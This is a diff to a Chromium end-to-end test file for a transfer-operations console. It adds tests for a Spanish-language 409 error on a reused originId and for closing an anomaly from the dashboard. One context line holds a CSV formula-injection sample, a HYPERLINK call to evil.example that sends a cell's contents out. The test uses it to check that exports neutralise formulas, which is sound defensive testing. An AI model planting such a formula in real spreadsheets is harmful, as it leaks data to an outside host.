@@ -5,8 +5,9 @@ import { waitUntil } from '../support/wait-until';
 import { type ConsoleStack, goTo, screenshot, signIn, startConsoleStack, watchPage } from './console-stack';
 
 // The console in Chromium, for an operator: a transfer created from its form (the API's field errors beside the
-// fields) and watched to its final status without a reload; a CSV batch previewed, confirmed, and sent again to
-// no effect; the current search exported as CSV, a formula in a description neutralised.
+// fields, a 409 explained in Spanish) and watched to its final status without a reload; a CSV batch previewed,
+// confirmed, and sent again to no effect; the current search exported as CSV, a formula in a description
+// neutralised; an anomaly found from the dashboard and closed with a note.
 
 const FROM_CUIT = transferRequest().from.owner.personId;
 const TO_CUIT = transferRequest().to.owner.personId;
@@ -70,6 +71,23 @@ describeWithChromium('the operator console at work (Chromium)', () => {
     expect(await page.evaluate('window.__sameDocument === true')).toBe(true);
     await screenshot(page, 'transfers-live-completed');
     expect((await stack.api('GET', '/admin/transfers/5101')).json.status).toBe('COMPLETED');
+
+    // The same originId with another amount: the API's 409 names the refusal, which the console says in Spanish.
+    await goTo(page, 'new');
+    await page.getByLabel('CBU/CVU de origen').fill(FROM_CVU);
+    await page.getByLabel('CUIT del titular de origen').fill(FROM_CUIT);
+    await page.getByLabel('CBU/CVU de destino').fill(TO_CBU);
+    await page.getByLabel('CUIT/CUIL del destinatario').fill(TO_CUIT);
+    await page.getByLabel('Importe').fill('99');
+    await page.getByLabel('Descripción').fill('alquiler noviembre');
+    await page.getByLabel('originId (opcional)').fill('5101');
+    await page.getByRole('button', { name: 'Crear transferencia' }).click();
+    const refused = await page.getByRole('alert').filter({ hasText: 'Error 409' }).textContent();
+    expect(refused).toBe(
+      'Error 409: Ese originId ya se usó con otros datos; no se creó nada — originId 5101 already exists with a ' +
+        'different payload; an originId is never reused',
+    );
+    expect((await stack.api('GET', '/admin/transfers/5101')).json.amount).toBe('1234.50');
     expect(seen.errors).toEqual([]);
     await page.close();
   });
@@ -167,6 +185,37 @@ describeWithChromium('the operator console at work (Chromium)', () => {
     expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""ver factura"")"`);
     expect(line).not.toMatch(/(^|,)"?=/);
     expect(csv).toContain('factura 5302 sin fórmula');
+    await page.close();
+  });
+
+  it('leads from the dashboard to the open anomalies, and closes one with a note', async () => {
+    const failed = await stack.api('POST', '/admin/transfers', {
+      body: transferRequest({ originId: 5401, description: 'sueldo [reject]' }),
+    });
+    expect(failed.json.status).toBe('FAILED');
+    await stack.contradict(5401, 'COMPLETED', 'the bank says COMPLETED after FAILED');
+    const page = await browser.context.newPage();
+    const seen = watchPage(page);
+    await signIn(page, stack.url, operator);
+    await page.getByRole('link', { name: 'Anomalías abiertas: 1' }).click();
+    await page.getByRole('heading', { name: 'Anomalías' }).waitFor();
+    const row = page.locator('tr[data-anomaly-id]');
+    await row.waitFor();
+    const cells = await row.locator('td').allTextContents();
+    expect(cells.slice(1, 5)).toEqual(['5401', 'Fallida', 'Completada', 'the bank says COMPLETED after FAILED']);
+    await screenshot(page, 'anomalies-open');
+
+    await row.getByLabel('Nota para cerrarla').fill('el banco confirmó que falló');
+    await row.getByRole('button', { name: 'Cerrar anomalía' }).click();
+    await page.getByText('No hay anomalías para mostrar.').waitFor();
+    await page.getByLabel('Mostrar').selectOption('true');
+    await page.getByText('Cerrada por ops').waitFor();
+    expect(await page.locator('tr[data-anomaly-id]').count()).toBe(1);
+    const [anomaly] = (await stack.api('GET', '/admin/anomalies?originId=5401')).json.items;
+    expect(anomaly.resolution).toMatchObject({ by: { name: 'ops' }, note: 'el banco confirmó que falló' });
+    // Closing it changed nothing about the transfer.
+    expect((await stack.api('GET', '/admin/transfers/5401')).json.status).toBe('FAILED');
+    expect(seen.errors).toEqual([]);
     await page.close();
   });
 });
